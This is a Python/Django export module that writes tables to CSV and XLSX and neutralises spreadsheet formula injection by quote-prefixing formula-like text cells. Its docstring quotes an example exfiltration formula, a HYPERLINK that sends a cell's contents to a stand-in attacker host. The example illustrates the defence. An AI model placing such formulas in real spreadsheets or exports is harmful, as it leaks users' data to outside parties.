"""One exporter base: rows in, file out (CSV or XLSX), after pretix's exporter.

A view builds a `Table` (column headers and rows of plain values) from a
selector and returns `table_response(table, fmt)`. Decimals stay numbers in
XLSX; CSV uses `;` and a decimal comma when the active language is Swedish,
which is what Swedish Excel expects. A computed figure keeps a sensible precision
(`formatting.export_number`: four decimals, or three significant digits of a small value).

Exports are safe to open. Company names, notes and answers come from imports
and from company representatives, so a text cell may hold
`=HYPERLINK("http://evil.example/?x="&A1,"click")`; a spreadsheet program would
run it as a formula when the file is opened (CSV) or a cell is edited (XLSX).
Every *text* cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return is neutralised, as OWASP's "CSV Injection" page advises: in CSV it gets a
leading `'`; in XLSX it is written as a string cell (never a formula, which
openpyxl would otherwise make of a str starting with "=") with the quotePrefix
style, so Excel keeps it text even when the cell is edited. Numbers, dates and
booleans are not text and are never touched: a negative amount stays a number.
Organisation numbers reach a table only through `companies.orgnr.shown`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import Http404, HttpResponse
from django.utils import timezone
from django.utils.text import slugify
from django.utils.translation import get_language

from .formatting import export_number

FORMATS = ("csv", "xlsx")


@dataclass
class Table:
    """A sheet: `name` is the sheet's title and, slugified, the file's name.

    Both reach the user, so `name` is built from translated words (a test checks that a
    Swedish download carries no English word). `file_stem`, when given, replaces the
    dated default (a claim's file is named after the claim, not the day it was fetched).
    """

    name: str
    headers: Sequence[str]
    rows: Iterable[Sequence[Any]]
    file_stem: str | None = None


def file_name(words: object, *codes: object, ext: str) -> str:
    """A download's name: translated `words` slugified, then codes (already slugs) as written.

    `file_name(_("payment claim"), "DIPPS", 4, ext="pdf")` is
    `ansokan-om-utbetalning-DIPPS-4.pdf` in Swedish, `payment-claim-DIPPS-4.pdf` in English:
    the words follow the page's language; a programme's code keeps the case the funder uses.
    """
    return f"{file_stem(words, *codes)}.{ext}"


def file_stem(words: object, *codes: object) -> str:
    """`file_name` without its extension, for a `Table` that names its own file."""
    parts = [slugify(str(words))] + [_CODE_UNSAFE.sub("-", str(c)).strip("-") for c in codes]
    return "-".join(p for p in parts if p)


_CODE_UNSAFE = re.compile(r"[^A-Za-z0-9_-]+")


# What a spreadsheet program reads as the start of a formula (or of a DDE call).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """Would Excel or LibreOffice treat this text as a formula?"""
    return text.startswith(FORMULA_STARTS)


def inert_text(text: str) -> str:
    """`text` with a leading `'` when it would be read as a formula (CSV)."""
    return "'" + text if is_formula_like(text) else text


def _csv_value(value: Any, decimal_comma: bool) -> str:
    value = export_number(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, Decimal | float):
        text = str(value)
        return text.replace(".", ",") if decimal_comma else text
    if isinstance(value, int):
        return str(value)
    if isinstance(value, date | datetime):
        return value.isoformat()
    return inert_text(str(value))


def to_csv(table: Table) -> bytes:
    swedish = (get_language() or "sv").startswith("sv")
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=";" if swedish else ",", lineterminator="\r\n")
    writer.writerow([inert_text(str(h)) for h in table.headers])
    for row in table.rows:
        writer.writerow([_csv_value(v, swedish) for v in row])
    # BOM so that Excel opens UTF-8 with å, ä and ö intact.
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


# Characters Excel does not allow in a sheet's name.
_SHEET_TITLE_FORBIDDEN = str.maketrans("", "", "[]:*?/\\")


# Control characters that XML 1.0, and so an XLSX file, cannot hold (openpyxl refuses them).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx_value(value: Any) -> Any:
    value = export_number(value)
    if isinstance(value, datetime) and value.tzinfo is not None:
        return timezone.localtime(value).replace(tzinfo=None)
    if value is None or isinstance(value, int | float | Decimal | date | datetime | bool):
        return value
    # A name imported with a stray control character must not make the export fail.
    return _XML_ILLEGAL.sub("\ufffd", str(value))


def _append(ws, row_number: int, values: list[Any]) -> None:
    """Append row `row_number`; formula-like text becomes a string cell with quotePrefix."""
    ws.append(values)
    for column, value in enumerate(values, 1):
        if isinstance(value, str) and is_formula_like(value):
            cell = ws.cell(row=row_number, column=column)
            cell.data_type = "s"  # openpyxl made it "f" (formula) for a leading "="
            cell.quotePrefix = True


def to_xlsx(table: Table) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook(write_only=False)
    ws = wb.active
    ws.title = str(table.name).translate(_SHEET_TITLE_FORBIDDEN)[:31] or "data"
    _append(ws, 1, [_xlsx_value(str(h)) for h in table.headers])
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for number, row in enumerate(table.rows, 2):
        _append(ws, number, [_xlsx_value(v) for v in row])
    ws.freeze_panes = "A2"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def table_response(table: Table, fmt: str) -> HttpResponse:
    if fmt not in FORMATS:
        raise Http404("unknown export format")
    body = to_csv(table) if fmt == "csv" else to_xlsx(table)
    response = HttpResponse(body, content_type=CONTENT_TYPES[fmt])
    if table.file_stem:
        filename = f"{table.file_stem}.{fmt}"
    else:
        filename = f"{slugify(table.name) or 'export'}-{timezone.localdate():%Y%m%d}.{fmt}"
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
